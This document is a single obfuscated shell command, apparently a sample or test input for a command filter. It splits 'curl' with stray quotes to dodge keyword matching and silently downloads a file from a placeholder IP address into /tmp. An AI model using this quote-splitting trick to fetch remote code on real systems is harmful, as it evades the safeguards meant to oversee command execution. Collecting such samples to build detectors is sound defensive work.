c''u"rl" -s http://203.0.113.8/x -o /tmp/x
